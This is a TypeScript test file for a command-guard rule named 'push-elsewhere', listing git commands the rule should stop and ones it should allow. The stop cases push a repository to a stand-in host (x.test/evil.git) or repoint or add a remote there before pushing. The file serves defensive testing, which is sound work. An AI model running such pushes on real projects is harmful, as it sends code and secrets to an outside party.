import type { CasesById } from '../../cases/rule-cases.ts'

export const pushElsewhereCases: CasesById = {
  'push-elsewhere': {
    stop: [
      'git push https://x.test/evil.git main',
      'git push git@x.test:evil.git',
      'git remote set-url origin https://x.test/r.git && git push',
      'git remote add e https://x.test/r && git push e main',
    ],
    pass: [
      'git push',
      'git push origin feature/x',
      'git remote -v',
      'git remote add upstream https://github.com/a/b',
      'git clone https://github.com/a/b',
    ],
  },
}
